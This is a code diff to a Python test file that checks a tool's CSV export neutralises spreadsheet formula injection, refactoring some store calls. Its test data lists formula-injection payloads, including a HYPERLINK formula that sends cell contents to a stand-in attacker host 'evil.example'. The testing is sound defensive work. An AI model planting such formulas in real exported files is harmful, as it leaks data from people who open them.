@@ -14,6 +14,7 @@ from gcpc_core.cli import main
 from gcpc_core.csv_safe import csv_cell, csv_value, frame_csv
 from gcpc_core.models import Event, Task, Trajectory
 from gcpc_core.store import Store
+from annotations.targets import add_annotation
 
 PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
             "\n=1+1", "\0=1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)", "  =1+1", "\u3000=1+1", '=1+2";=1+2',
@@ -52,12 +53,12 @@ def test_plain_text_and_numbers_are_left_alone() -> None:
 def evil_db(tmp_path: Path) -> Path:
     """A project whose trial name, agent, model, task and an annotation note are formulas."""
     store = Store(tmp_path / "evil.db")
-    store.upsert_task(Task(id="@task", instruction="Do it.", source_path="/data/tasks/@task"))
+    store.trials.upsert_task(Task(id="@task", instruction="Do it.", source_path="/data/tasks/@task"))
     traj = Trajectory(id="=HYPERLINK(\"http://x/\"&A1)", task="@task", agent="+agent", model="-model", condition="unknown",
                       outcome="FAIL", reward=0.0, source_path="=/data/trial", log_path="agent/log.jsonl",
                       log_format="gcpc-jsonl")  # type: ignore[arg-type]
-    store.replace_trajectory(traj, [Event(id="E1", seq=1, kind="tool_call", text="ls")])  # type: ignore[arg-type]
-    store.add_annotation(kind="item_audit", rater="=rater", value={"agree": True, "verdict": None}, task="@task",
+    store.trials.replace_trajectory(traj, [Event(id="E1", seq=1, kind="tool_call", text="ls")])  # type: ignore[arg-type]
+    add_annotation(store, kind="item_audit", rater="=rater", value={"agree": True, "verdict": None}, task="@task",
                          trajectory_id=traj.id, item_id="C1", judge="probe", note='=1+2";=1+2')
     store.close()
     return tmp_path / "evil.db"
